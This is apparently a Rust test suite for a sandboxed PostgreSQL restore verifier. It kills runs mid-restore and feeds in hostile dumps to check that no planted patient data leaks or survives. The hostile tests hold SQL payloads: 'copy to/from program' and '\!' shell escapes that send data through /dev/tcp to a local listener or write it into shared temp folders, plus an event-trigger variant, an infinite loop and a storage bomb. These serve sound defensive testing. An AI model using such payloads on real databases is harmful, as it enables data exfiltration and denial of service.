//! Runs that are killed, and dumps that attack: nothing of the data outlives either.

use std::{
    collections::{BTreeMap, BTreeSet},
    env, fs,
    io::{self, Write as _},
    net::TcpListener,
    os::unix::fs::PermissionsExt as _,
    path::{Path, PathBuf},
    process::{Child, Command, Stdio},
    thread,
    time::{Duration, Instant},
};

use hipaa_iac_restore::{
    Reason, RestoreResult, Verdict,
    result::{Destroyed, Isolation},
};
use libtest_mimic::{Failed, Trial};
use nix::{
    sys::{
        signal::{Signal, kill},
        stat::Mode,
    },
    unistd::{Pid, mkfifo},
};
use serde_json::{Value, json};

use crate::{
    case,
    fixture::{self, Fixture},
};

/// What every patient of the fixture is called: it must be nowhere afterwards.
const MARKER: &[u8] = b"Planted Patient";

/// When a run is killed.
#[derive(Clone, Copy, PartialEq, Eq)]
enum When {
    /// While half of the dump is restored.
    Restore,
    /// While a check runs on all of the data.
    Checks,
}

/// What is killed, and how.
#[derive(Clone, Copy, PartialEq, Eq)]
enum Blow {
    /// The caller, by SIGKILL.
    Caller,
    /// The caller, by SIGTERM, which it answers with a result.
    CallerAsked,
    /// The process that made the namespaces.
    Outer,
    /// The first process of the sandbox.
    First,
    /// Every process at once, and then `gc`.
    All,
}

/// Every case.
pub(crate) fn trials() -> Vec<Trial> {
    let mut trials = Vec::new();
    for (when_name, when) in [("restore", When::Restore), ("checks", When::Checks)] {
        for (blow_name, blow) in [
            ("sigkill", Blow::Caller),
            ("sigterm", Blow::CallerAsked),
            ("sigkill_of_outer", Blow::Outer),
            ("sigkill_of_first", Blow::First),
        ] {
            trials.push(Trial::test(
                format!("death::{when_name}::{blow_name}"),
                move || death(when, blow, "auto", true),
            ));
        }
    }
    for (name, isolation) in [("disk", "auto"), ("directory", "directory")] {
        for (blow_name, blow) in [
            ("sigkill", Blow::Caller),
            ("sigterm", Blow::CallerAsked),
            ("sigkill_of_all", Blow::All),
        ] {
            trials.push(Trial::test(
                format!("death::{name}::{blow_name}"),
                move || death(When::Checks, blow, isolation, false),
            ));
        }
    }
    trials.push(Trial::test("death::full_memory", full_memory));
    trials.push(Trial::test("hostile::program", program));
    trials.push(Trial::test("hostile::event_trigger", event_trigger));
    trials.push(Trial::test("hostile::endless", endless));
    trials.push(Trial::test("hostile::bomb", bomb));
    trials
}

/// A folder of one case, in which the scratch, the state and the logs are.
struct Place {
    folder: PathBuf,
}

impl Place {
    fn new(name: &str) -> io::Result<Self> {
        let folder = tempfile::Builder::new()
            .prefix(&format!("hipaa-iac-{name}-"))
            .tempdir()?
            .keep();
        // The user that tools run as must get through to the scratch.
        fs::set_permissions(&folder, fs::Permissions::from_mode(0o755))?;
        fs::create_dir(folder.join("scratch"))?;
        Ok(Self { folder })
    }

    fn command(&self, document: &Value, secrets: &Path, isolation: &str) -> io::Result<Command> {
        let path = self.folder.join("verification.json");
        fs::write(&path, serde_json::to_vec(document)?)?;
        let mut command = Command::new(env::current_exe()?);
        command
            .arg(case::RUN)
            .arg(path)
            .arg(secrets)
            .arg(self.folder.join("state"))
            .env("TMPDIR", self.folder.join("scratch"))
            .env(case::SCRATCH, self.folder.join("scratch"))
            .env(case::ISOLATION, isolation)
            .stdin(Stdio::null())
            .stdout(fs::File::create(self.folder.join("out"))?)
            .stderr(fs::File::create(self.folder.join("err"))?);
        Ok(command)
    }

    /// The result, if the run gave one.
    fn result(&self) -> Option<(RestoreResult, Vec<String>)> {
        serde_json::from_slice(&fs::read(self.folder.join("out")).ok()?).ok()
    }

    /// That neither data nor a run's folder is left.
    fn is_clean(&self) -> Result<(), Failed> {
        let left: Vec<PathBuf> = files(&self.folder.join("scratch"))?;
        if !left.is_empty() {
            return Err(format!("left behind: {left:?}").into());
        }
        for folder in [self.folder.as_path(), Path::new("/var/log")] {
            for file in files(folder)? {
                let bytes = fs::read(&file).unwrap_or_default();
                if bytes.windows(MARKER.len()).any(|window| window == MARKER) {
                    return Err(format!("the data is in {}", file.display()).into());
                }
            }
        }
        Ok(())
    }
}

impl Drop for Place {
    fn drop(&mut self) {
        let _ = fs::remove_dir_all(&self.folder);
    }
}

/// Every file and link below a folder; folders of runs count as files.
fn files(folder: &Path) -> io::Result<Vec<PathBuf>> {
    let mut all = Vec::new();
    let mut folders = vec![folder.to_owned()];
    while let Some(next) = folders.pop() {
        let Ok(entries) = fs::read_dir(&next) else {
            continue;
        };
        for entry in entries {
            let entry = entry?;
            if entry.file_type()?.is_dir() {
                if entry
                    .file_name()
                    .to_string_lossy()
                    .starts_with("hipaa-iac-restore-")
                {
                    all.push(entry.path());
                }
                folders.push(entry.path());
            } else if entry.file_type()?.is_file() {
                all.push(entry.path());
            }
        }
    }
    Ok(all)
}

/// The processes that come from one: their numbers and command lines, in the order of their numbers.
fn descendants(of: u32) -> BTreeMap<i32, String> {
    let mut parents = BTreeMap::new();
    for entry in fs::read_dir("/proc").into_iter().flatten().flatten() {
        let Some(pid) = entry
            .file_name()
            .to_str()
            .and_then(|name| name.parse::<i32>().ok())
        else {
            continue;
        };
        let stat = fs::read_to_string(entry.path().join("stat")).unwrap_or_default();
        let parent = stat
            .rsplit_once(')')
            .and_then(|(_, rest)| rest.split_whitespace().nth(1)?.parse::<i32>().ok());
        if let Some(parent) = parent {
            parents.insert(pid, parent);
        }
    }
    let mut ours = BTreeSet::from([i32::try_from(of).unwrap_or(0)]);
    loop {
        let before = ours.len();
        for (pid, parent) in &parents {
            if ours.contains(parent) {
                ours.insert(*pid);
            }
        }
        if ours.len() == before {
            break;
        }
    }
    ours.into_iter()
        .filter(|pid| u32::try_from(*pid) != Ok(of))
        .map(|pid| {
            let line = fs::read(format!("/proc/{pid}/cmdline")).unwrap_or_default();
            (pid, String::from_utf8_lossy(&line).replace('\0', " "))
        })
        .collect()
}

fn lives(pid: i32) -> bool {
    let stat = fs::read_to_string(format!("/proc/{pid}/stat")).unwrap_or_default();
    stat.rsplit_once(')')
        .is_some_and(|(_, rest)| !rest.trim_start().starts_with('Z'))
}

/// Waits for something.
fn until(what: &str, mut is: impl FnMut() -> bool) -> Result<(), Failed> {
    let end = Instant::now() + Duration::from_mins(2);
    while !is() {
        if Instant::now() > end {
            return Err(format!("waited in vain: {what}").into());
        }
        thread::sleep(Duration::from_millis(20));
    }
    Ok(())
}

fn document(fixture: &Fixture, name: &str, stored: &Path, memory: bool) -> Value {
    let mut document = fixture.verification(
        name,
        &json!({"pgDump": {
            "format": "Plain",
            "location": {"local": {"path": stored}},
            "encryption": {"age": {"identitySecretRef": {"name": "age", "key": "identity"}}},
        }}),
    );
    if !memory {
        document["spec"]["target"]["storage"] = json!({"ephemeralVolume": {"size": "1Gi"}});
    }
    document
}

fn death(when: When, blow: Blow, isolation: &str, memory: bool) -> Result<(), Failed> {
    let fixture = fixture::get()?;
    let place = Place::new("death")?;
    let whole = place.folder.join("whole.age");
    fixture.age(&fixture.path("good.sql"), &whole)?;
    let bytes = fs::read(&whole)?;
    let stored = place.folder.join("stored.age");
    let mut pipe = None;
    if when == When::Restore {
        // A pipe that is fed the first half, and then nothing more.
        mkfifo(&stored, Mode::S_IRUSR | Mode::S_IWUSR)?;
        let (stored, half) = (stored.clone(), bytes[..bytes.len() / 2].to_vec());
        pipe = Some(thread::spawn(move || {
            let mut pipe = fs::File::options().write(true).open(stored)?;
            pipe.write_all(&half)?;
            io::Result::Ok(pipe)
        }));
    } else {
        fs::write(&stored, &bytes)?;
    }
    let mut document = document(&fixture, "death", &stored, memory);
    if when == When::Checks {
        document["spec"]["checks"]["sql"] = json!([{
            "id": "slow", "query": "select count(*) + length(pg_sleep(500)::text) from public.patients",
            "expect": {"op": ">=", "value": 1}, "timeoutSeconds": 500,
        }]);
    }
    let mut child = place
        .command(&document, &fixture.secrets, isolation)?
        .spawn()?;
    let seen = reached(&mut child, when);
    let pipe = pipe.map(thread::JoinHandle::join);
    let seen = seen?;
    strike(&mut child, blow, &seen)?;
    let status = child.wait()?;
    until("every process of the run is gone", || {
        !seen.keys().any(|pid| lives(*pid))
    })?;
    drop(pipe);
    if blow == Blow::All {
        // What was there is found by the next run, or by `gc`.
        hipaa_iac_restore::scratch::collect(
            &place.folder.join("state"),
            &[place.folder.join("scratch")],
        );
    }
    let result = place.result();
    match blow {
        Blow::CallerAsked | Blow::Outer | Blow::First => {
            let (result, notes) = result.ok_or_else(|| format!("no result: {status}"))?;
            let reason = if blow == Blow::CallerAsked {
                Reason::Interrupted
            } else {
                Reason::RunnerLost
            };
            if result.reason != reason || result.verdict == Verdict::Passed {
                return Err(format!("{} {notes:?}", result.reason).into());
            }
            if result.scratch.destroyed != Destroyed::Verified {
                return Err("not shown to be destroyed".into());
            }
        }
        Blow::Caller | Blow::All => {}
    }
    if blow == Blow::Caller && isolation == "auto" && memory {
        // In memory nothing is left but an empty folder, which the next run removes.
        for file in files(&place.folder.join("scratch"))? {
            let name = file
                .file_name()
                .unwrap_or_default()
                .to_string_lossy()
                .into_owned();
            if name != "lock" && !name.starts_with("hipaa-iac-restore-") {
                return Err(format!("left behind: {}", file.display()).into());
            }
        }
    }
    if blow == Blow::Caller {
        // The sandbox has emptied the data's folder itself, without anybody's help.
        for file in files(&place.folder.join("scratch"))? {
            if fs::read(&file)
                .is_ok_and(|bytes| bytes.windows(MARKER.len()).any(|window| window == MARKER))
            {
                return Err(format!("the data is in {}", file.display()).into());
            }
        }
        hipaa_iac_restore::scratch::collect(
            &place.folder.join("state"),
            &[place.folder.join("scratch")],
        );
    }
    fs::remove_file(&whole)?;
    fs::remove_file(&stored)?;
    place.is_clean()
}

/// Waits until the run is where it is to be killed, and gives its processes.
fn reached(child: &mut Child, when: When) -> Result<BTreeMap<i32, String>, Failed> {
    let id = child.id();
    let mut ended = false;
    until("the run is under way", || {
        ended = child.try_wait().is_ok_and(|status| status.is_some());
        let all = descendants(id);
        let server = |words: &str| {
            all.values()
                .any(|line| line.starts_with("postgres:") && line.contains(words))
        };
        ended
            || match when {
                When::Restore => server("restored"),
                When::Checks => server("SELECT"),
            }
    })?;
    if ended {
        return Err("the run ended too early".into());
    }
    thread::sleep(Duration::from_millis(300));
    Ok(descendants(id))
}

fn strike(child: &mut Child, blow: Blow, seen: &BTreeMap<i32, String>) -> Result<(), Failed> {
    let of = |word: &str| {
        seen.iter()
            .find(|(_, line)| line.contains(word))
            .map(|(pid, _)| Pid::from_raw(*pid))
            .ok_or_else(|| format!("no process {word}: {seen:?}"))
    };
    let caller = Pid::from_raw(i32::try_from(child.id())?);
    match blow {
        Blow::Caller => kill(caller, Signal::SIGKILL)?,
        Blow::CallerAsked => kill(caller, Signal::SIGTERM)?,
        Blow::Outer => kill(of("__restore-sandbox")?, Signal::SIGKILL)?,
        Blow::First => kill(of("__restore-init")?, Signal::SIGKILL)?,
        Blow::All => {
            for pid in seen.keys() {
                let _ = kill(Pid::from_raw(*pid), Signal::SIGSTOP);
            }
            let _ = kill(caller, Signal::SIGKILL);
            for pid in seen.keys() {
                let _ = kill(Pid::from_raw(*pid), Signal::SIGKILL);
            }
        }
    }
    Ok(())
}

fn full_memory() -> Result<(), Failed> {
    let fixture = fixture::get()?;
    let place = Place::new("full")?;
    let stored = place.folder.join("stored.age");
    fixture.age(&fixture.path("good.sql"), &stored)?;
    let mut document = document(&fixture, "full", &stored, true);
    // An empty cluster takes about 40 MiB.
    document["spec"]["target"]["storage"] = json!({"memory": {"sizeLimit": "44Mi"}});
    let result = finish(&place, &fixture, &document)?;
    fs::remove_file(stored)?;
    expect(&result, Reason::StorageFull)?;
    place.is_clean()
}

/// Runs a verification to its end.
fn finish(place: &Place, fixture: &Fixture, document: &Value) -> Result<RestoreResult, Failed> {
    let status = place
        .command(document, &fixture.secrets, "auto")?
        .status()?;
    let err = fs::read_to_string(place.folder.join("err"))?;
    let (result, notes) = place
        .result()
        .ok_or_else(|| format!("no result: {status} {err}"))?;
    if result.scratch.destroyed != Destroyed::Verified {
        return Err(format!("not shown to be destroyed: {notes:?}").into());
    }
    Ok(result)
}

fn expect(result: &RestoreResult, reason: Reason) -> Result<(), Failed> {
    if result.reason == reason {
        Ok(())
    } else {
        Err(format!(
            "expected {reason}, got {}: {}",
            result.reason,
            serde_json::to_string(result)?
        )
        .into())
    }
}

/// A plain dump with something in it that no honest one has.
fn hostile(
    place: &Place,
    fixture: &Fixture,
    sql: &str,
    deadline: u64,
) -> Result<RestoreResult, Failed> {
    let plain = place.folder.join("hostile.sql");
    let text = format!(
        "--\n-- PostgreSQL database dump\n--\n\n-- Dumped from database version 15.18\n-- Dumped by pg_dump version 15.18\n\ncreate table public.patients (name text);\ninsert into public.patients values ('Planted Patient 1');\n{sql}\n--\n-- PostgreSQL database dump complete\n--\n\n"
    );
    fs::write(&plain, text)?;
    let stored = place.folder.join("hostile.age");
    fixture.age(&plain, &stored)?;
    let mut document = document(fixture, "hostile", &stored, true);
    document["spec"]["target"]["storage"] = json!({"memory": {"sizeLimit": "256Mi"}});
    document["spec"]["deadlines"]["restoreSeconds"] = json!(deadline);
    let result = finish(place, fixture, &document)?;
    fs::remove_file(plain)?;
    fs::remove_file(stored)?;
    if result.verdict == Verdict::Passed {
        return Err("a hostile dump passed".into());
    }
    place.is_clean()?;
    Ok(result)
}

/// Attempts to get out: by the network, and into every place that others may write to.
fn escape(port: u16, name: &str) -> String {
    [
        format!("exec 3<>/dev/tcp/127.0.0.1/{port}"),
        format!("cat > /var/tmp/{name}"),
        format!("cat > /tmp/{name}"),
        format!("cat > /dev/shm/{name}"),
        format!("cat > /run/{name}"),
    ]
    .map(|attempt| format!("(echo Planted Patient | bash -c \"{attempt}\") || true"))
    .join("; ")
}

fn has_not_escaped(listener: &TcpListener, name: &str) -> Result<(), Failed> {
    listener.set_nonblocking(true)?;
    if listener.accept().is_ok() {
        return Err("the dump reached the network".into());
    }
    for folder in ["/var/tmp", "/tmp", "/dev/shm", "/run"] {
        if Path::new(folder).join(name).exists() {
            return Err(format!("the dump wrote into {folder}").into());
        }
    }
    Ok(())
}

fn program() -> Result<(), Failed> {
    let fixture = fixture::get()?;
    let place = Place::new("program")?;
    let listener = TcpListener::bind("127.0.0.1:0")?;
    let name = format!("leak-{}-program", std::process::id());
    let escape = escape(listener.local_addr()?.port(), &name);
    let quoted = escape.replace('\'', "''");
    let sql = format!(
        "copy public.patients from program '{quoted}';\ncopy public.patients to program '{quoted}';\n\\! {escape}\n"
    );
    let result = hostile(&place, &fixture, &sql, 60)?;
    if result.scratch.isolation != Isolation::LocalNamespaces {
        return Err("no namespaces here, so nothing is proved".into());
    }
    has_not_escaped(&listener, &name)
}

fn event_trigger() -> Result<(), Failed> {
    let fixture = fixture::get()?;
    let place = Place::new("trigger")?;
    let listener = TcpListener::bind("127.0.0.1:0")?;
    let name = format!("leak-{}-trigger", std::process::id());
    let escape = escape(listener.local_addr()?.port(), &name).replace('\'', "''''");
    let sql = format!(
        "create function public.out() returns event_trigger language plpgsql as $$ begin execute 'copy public.patients to program ''{escape}'''; end $$;\ncreate event trigger out on ddl_command_end execute function public.out();\ncreate table public.after (x int);\n"
    );
    hostile(&place, &fixture, &sql, 60)?;
    has_not_escaped(&listener, &name)
}

fn endless() -> Result<(), Failed> {
    let fixture = fixture::get()?;
    let place = Place::new("endless")?;
    let sql = "do $$ begin loop end loop; end $$;\n";
    expect(
        &hostile(&place, &fixture, sql, 8)?,
        Reason::DeadlineExceeded,
    )
}

fn bomb() -> Result<(), Failed> {
    let fixture = fixture::get()?;
    let place = Place::new("bomb")?;
    let sql = "create table public.bomb as select repeat(md5(g::text), 30) from generate_series(1, 10000000) g;\n";
    expect(&hostile(&place, &fixture, sql, 120)?, Reason::StorageFull)
}
